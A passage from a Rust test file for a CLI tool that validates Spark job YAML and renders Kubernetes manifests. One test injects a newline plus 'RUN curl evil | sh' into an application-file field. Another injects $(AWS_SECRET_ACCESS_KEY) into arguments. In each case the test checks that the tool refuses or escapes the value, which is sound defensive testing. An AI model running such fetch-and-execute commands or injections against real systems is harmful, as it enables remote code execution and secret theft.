        ("the plan", text(&plan.stdout)),
    ] {
        assert!(
            !written
                .lines()
                .any(|l| l.starts_with("deprecated") || l.starts_with("touch")),
            "{name}:\n{written}"
        );
    }
    // A line break in the application file is refused where it is written.
    let bad = dir.path().join("bad.yaml");
    fs::write(
        &bad,
        fs::read_to_string(EXAMPLE).unwrap().replace(
            "local:///app/simple_read.py",
            "\"local:///app/x.py\\nRUN curl evil | sh\"",
        ),
    )
    .unwrap();
    let o = run(&["validate", bad.to_str().unwrap()]);
    assert_eq!(code(&o), 2, "{}", text(&o.stdout));
    assert!(
        text(&o.stderr).contains("spec.mainApplicationFile"),
        "{}",
        text(&o.stderr)
    );
    let o = run(&[
        "chart",
        EXAMPLE,
        "--out",
        chart.to_str().unwrap(),
        "--force",
        "--chart-version",
        "1.0.0\nfoo: bar",
    ]);
    assert_eq!(code(&o), 2);
}

#[test]
fn operator_keeps_the_applications_arguments_its_own_and_escapes_them_for_the_drivers_kubelet() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("spark-job.yaml");
    let yaml = fs::read_to_string(EXAMPLE).unwrap().replace(
        "  mainApplicationFile: local:///app/simple_read.py\n",
        "  mainApplicationFile: local:///app/cost$(HOME).py\n",
    );
    let yaml = yaml.replace(
        "  arguments:\n",
        "  arguments:\n    - --conf\n    - spark.hadoop.fs.s3a.endpoint=https://elsewhere.example\n    - --class\n    - X\n    - --master\n    - local\n    - $(AWS_SECRET_ACCESS_KEY)\n",
    );
    fs::write(&config, yaml).unwrap();
    let o = run(&["operator", config.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let out = text(&o.stdout);
    let document = out
        .split("---\n")
        .find(|d| d.contains("kind: SparkApplication"))
        .expect("a SparkApplication");
    let app: serde_json::Value = serde_saphyr::from_str(document).unwrap();
    let spec = &app["spec"];
    let arguments: Vec<&str> = spec["arguments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    assert_eq!(
        &arguments[..7],
        [
            "--conf",
            "spark.hadoop.fs.s3a.endpoint=https://elsewhere.example",
            "--class",
            "X",
            "--master",
            "local",
            "$$(AWS_SECRET_ACCESS_KEY)"
        ],
        "the application's arguments stay its own, escaped for the driver's kubelet"
    );
    assert_eq!(spec["mainApplicationFile"], "local:///app/cost$$(HOME).py");
    assert_eq!(spec["mode"], "cluster");
    assert!(spec["mainClass"].is_null(), "{spec}");
    assert!(!out.contains("endpoint: https://elsewhere"), "{out}");
}

#[test]
fn operator_writes_the_application_says_what_it_cannot_carry_and_refuses_old_spark() {
    let nightly = "examples/nightly-summary/spark-job.yaml";
    let o = run(&["operator", nightly]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let out = text(&o.stdout);
    assert!(out.contains("kind: ScheduledSparkApplication"));
    assert!(!out.contains("kind: Job") && !out.contains("kind: CronJob"));
    assert!(
        text(&o.stderr).contains("startingDeadlineSeconds"),
        "the starting deadline it cannot carry is named: {}",
        text(&o.stderr)
    );
    let once = run(&["operator", "--once", nightly]);
    assert!(text(&once.stdout).contains("kind: SparkApplication\n"));

    let dir = tempfile::tempdir().unwrap();
    let out_dir = dir.path().join("app");
    let out_arg = out_dir.to_str().unwrap();
    assert_eq!(code(&run(&["operator", EXAMPLE, "--out", out_arg])), 0);
    assert!(out_dir.join("09-sparkapplication.yaml").exists());
    let check = run(&["operator", EXAMPLE, "--out", out_arg, "--check"]);
    assert_eq!(code(&check), 0, "{}", text(&check.stderr));

    let old = dir.path().join("old.yaml");
    fs::write(
        &old,
        "apiVersion: k8s-s3-spark/v1alpha1\nkind: SparkJob\nmetadata: {name: j, namespace: n}\nspec:\n  type: Python\n  sparkVersion: 2.4.8\n  hadoopVersion: 2.9.2\n  customDistribution: true\n  image: a/b:1\n  mainApplicationFile: local:///a.py\n",
    )
    .unwrap();
    assert_eq!(code(&run(&["render", old.to_str().unwrap()])), 0);
    let refused = run(&["operator", old.to_str().unwrap()]);
    assert_eq!(code(&refused), 2, "{}", text(&refused.stderr));
    assert!(refused.stdout.is_empty());
    let err = text(&refused.stderr);
    assert!(
        err.contains("old.yaml:6:3: error[KS112] in `spec.sparkVersion`")
            && err.contains("Spark 3.0.0 or later")
            && err.contains("help:"),
        "{err}"
    );
}

#[test]
fn a_reader_that_closes_the_pipe_early_is_not_an_error() {
    use std::io::{BufRead, BufReader};
    use std::process::Stdio;
    // `k8s-s3-spark schema | head -1`: the reader takes one line and closes the pipe.
    let mut child = tool()
        .arg("schema")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert_eq!(first, "{\n");
    let out = child.wait_with_output().unwrap();
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_eq!(text(&out.stderr), "");
}

#[test]
fn validate_of_a_folder_reports_a_spark_job_with_a_mistyped_api_version() {
    let dir = tempfile::tempdir().unwrap();
    let good = fs::read_to_string("examples/amazon-reviews/spark-job.yaml").unwrap();
    for (name, api) in [("v1.yaml", "v1"), ("beta.yaml", "k8s-s3-spark/v1beta1")] {
        let text = good.replace(
            "apiVersion: k8s-s3-spark/v1alpha1",
            &format!("apiVersion: {api}"),
        );
        assert_ne!(text, good);
        fs::write(dir.path().join(name), text).unwrap();
    }
    // Another kind is not ours, and is still skipped.
    fs::write(
        dir.path().join("other.yaml"),
        "apiVersion: v1\nkind: ConfigMap\n",
    )
    .unwrap();
    let o = run(&["validate", dir.path().to_str().unwrap()]);
    assert_eq!(code(&o), 2, "{}", text(&o.stdout));
    let out = text(&o.stdout) + &text(&o.stderr);
    assert!(
        out.contains("v1.yaml") && out.contains("beta.yaml"),
        "{out}"
    );
    assert!(!out.contains("other.yaml"), "{out}");
}

#[test]
fn init_refuses_options_that_do_not_apply_and_writes_shareable_files() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    for args in [
        vec!["init", d, "--role-arn", "arn:aws:iam::123456789012:role/x"],
        vec!["init", d, "--main-class", "a.B"],
        vec!["init", d, "--type", "r", "--main-class", "a.B"],
    ] {
        let o = run(&args);
        assert_eq!(code(&o), 2, "{args:?}");
        assert!(
            text(&o.stderr).contains("applies only to"),
            "{}",
            text(&o.stderr)
        );
        assert!(
            !dir.path().join("spark-job.yaml").exists(),
            "nothing written"
        );
    }
    assert_eq!(
        code(&run(&["init", d, "--type", "scala", "--main-class", "a.B"])),
        0
    );
    #[cfg(unix)]
    for file in ["spark-job.yaml", "spark-job.schema.json"] {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(dir.path().join(file))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o644, "{file}");
    }
}

#[cfg(unix)]
#[test]
fn validate_json_reports_a_file_name_that_is_not_utf8() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let odd = dir.path().join(std::ffi::OsStr::from_bytes(b"ok\xfe.yaml"));
    fs::copy("examples/minio/spark-job.yaml", &odd).unwrap();
    fs::copy("tests/invalid/null-key.yaml", dir.path().join("bad.yaml")).unwrap();
    let o = run(&["validate", "--format", "json", dir.path().to_str().unwrap()]);
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let files: Vec<&str> = report["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["file"].as_str().unwrap())
        .collect();
    assert!(
        files.iter().any(|f| f.ends_with("ok\u{FFFD}.yaml")),
        "{files:?}"
    );
}
